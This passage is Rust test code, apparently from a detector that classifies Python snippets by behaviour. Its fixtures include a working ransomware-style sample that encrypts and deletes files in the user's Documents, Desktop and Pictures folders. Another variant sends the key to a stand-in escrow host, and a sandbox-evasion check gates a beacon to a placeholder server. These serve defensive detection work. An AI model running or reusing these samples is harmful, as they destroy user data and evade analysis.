        // A known key selects its own value only.
        let ev = run(
            "from pathlib import Path\nP = {'cfg': '~/.config/mytool/config.json', 'key': '~/.ssh/id_rsa'}\nopen(P['cfg']).read()\n",
        );
        assert!(
            ev.iter()
                .any(|e| e.op == Op::FileRead && e.target == "~/.config/mytool/config.json"),
            "{ev:#?}"
        );
        assert!(!ev.iter().any(|e| e.scope == R::Credentials), "{ev:#?}");
    }

    #[test]
    fn own_config_dict_is_not_a_secret() {
        let ev = run(
            "import platform\nfrom pathlib import Path\nhome = Path.home()\nroots = {'Darwin': home / 'Library/Application Support/mytool', 'Linux': home / '.config/mytool'}\nroot = roots.get(platform.system())\nfor name in ('settings.json', 'state.json'):\n    (root / name).read_text()\n",
        );
        assert!(ev.iter().any(|e| e.op == Op::FileRead), "{ev:#?}");
        assert!(!ev.iter().any(|e| e.scope == R::Credentials), "{ev:#?}");
    }

    const RANSOM: &str = "from pathlib import Path\nfrom cryptography.fernet import Fernet\nHOME = Path.home()\nROOTS = [HOME / d for d in ('Documents', 'Desktop', 'Pictures')]\ndef shred(p):\n    p.unlink()\ndef walk(roots):\n    for root in roots:\n        for p in root.rglob('*'):\n            yield p\ndef lock():\n    f = Fernet(Fernet.generate_key())\n    for p in walk(ROOTS):\n        p.with_suffix('.vault').write_bytes(f.encrypt(p.read_bytes()))\n        shred(p)\n";

    #[test]
    fn ransomware_shape() {
        let ev = run(RANSOM);
        let d = ev
            .iter()
            .find(|e| e.op == Op::FileDelete && e.has(Tag::MassEncrypt))
            .expect("mass encryption");
        assert!(d.target.contains("~/Documents"), "{d:#?}");
        // Read, encrypt into a variable, write through a handle, os.remove.
        let ev = run(
            "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(KEY)\nfor dp, _, names in os.walk(os.path.expanduser('~/Documents')):\n    for n in names:\n        p = os.path.join(dp, n)\n        data = open(p, 'rb').read()\n        enc = f.encrypt(data)\n        with open(p + '.enc', 'wb') as out:\n            out.write(enc)\n        os.remove(p)\n",
        );
        assert!(ev.iter().any(|e| e.has(Tag::MassEncrypt)), "{ev:#?}");
    }

    #[test]
    fn ransomware_key_escrow_is_a_send() {
        let code = format!(
            "import requests\n{RANSOM}    escrow(f)\ndef escrow(k):\n    requests.post('https://escrow.example/k', data=k)\n"
        );
        let ev = run(&code);
        assert!(
            ev.iter()
                .any(|e| e.op == Op::NetSend && e.has(Tag::MassEncrypt)),
            "{ev:#?}"
        );
        // An encrypted backup upload that keeps the originals.
        let ev = run(
            "import requests\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(KEY)\nfor p in (Path.home() / 'Documents').rglob('*.md'):\n    requests.put('https://backup.example/' + p.name, data=f.encrypt(p.read_bytes()))\n",
        );
        assert!(ev.iter().any(|e| e.op == Op::NetSend), "{ev:#?}");
        assert!(!ev.iter().any(|e| e.has(Tag::MassEncrypt)), "{ev:#?}");
    }

    #[test]
    fn encrypting_backups_are_not_ransomware() {
        for code in [
            // One user-chosen file, original kept.
            "import sys\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(Path('key').read_bytes())\np = Path(sys.argv[1])\nPath(str(p) + '.enc').write_bytes(f.encrypt(p.read_bytes()))\n",
            // Walks Documents and writes encrypted copies, keeps the originals.
            &RANSOM.replace("        shred(p)\n", ""),
            // Walks and encrypts a project folder, deletes originals: no user folders.
            "from pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(KEY)\nfor p in Path('secrets').rglob('*.env'):\n    p.with_suffix('.enc').write_bytes(f.encrypt(p.read_bytes()))\n    p.unlink()\n",
        ] {
            let ev = run(code);
            assert!(
                !ev.iter().any(|e| e.has(Tag::MassEncrypt)),
                "{code}: {ev:#?}"
            );
        }
    }

    #[test]
    fn sandbox_probe_predicate_gates() {
        let ev = run(
            "import os, socket, requests\ndef _real_host():\n    if os.path.exists('/.dockerenv'):\n        return False\n    if any(os.environ.get(k) for k in ('CI', 'GITHUB_ACTIONS')):\n        return False\n    if (os.cpu_count() or 1) <= 2:\n        return False\n    return 'sandbox' not in socket.gethostname()\ndef beacon():\n    requests.post('https://c.example/b', data={'a': 1})\ndef main():\n    print('ok')\n    if _real_host():\n        beacon()\n",
        );
        assert!(
            ev.iter()
                .any(|e| e.op == Op::CallLocal && e.has(Tag::EnvGate)),
            "{ev:#?}"
        );
        assert!(ev.iter().any(|e| e.op == Op::Trigger), "{ev:#?}");
    }

    #[test]
    fn ci_checks_alone_are_not_sandbox_probes() {
        // A CI-detection helper (one kind of check) gating an upload, and a
        // CI check that only turns colours off.
        let ev = run(
            "import os, sys, requests\ndef is_ci():\n    return bool(os.environ.get('GITHUB_ACTIONS') or os.environ.get('GITLAB_CI'))\ndef upload():\n    requests.post('https://api.codecov.example/upload', data=open('coverage.xml').read())\nif not is_ci():\n    upload()\nUSE_COLOR = sys.stdout.isatty() and not os.environ.get('NO_COLOR')\nif os.environ.get('CI'):\n    USE_COLOR = False\n    print('::group::tests')\n",
        );
        assert!(!ev.iter().any(|e| e.op == Op::Trigger), "{ev:#?}");
        assert!(
            !ev.iter()
                .any(|e| e.op == Op::CallLocal && e.has(Tag::EnvGate)),
            "{ev:#?}"
        );
    }

    #[test]
    fn b32_decodes() {
        assert_eq!(super::super::deobf::b32("NBSWY3DP").unwrap(), b"hello");
    }
}
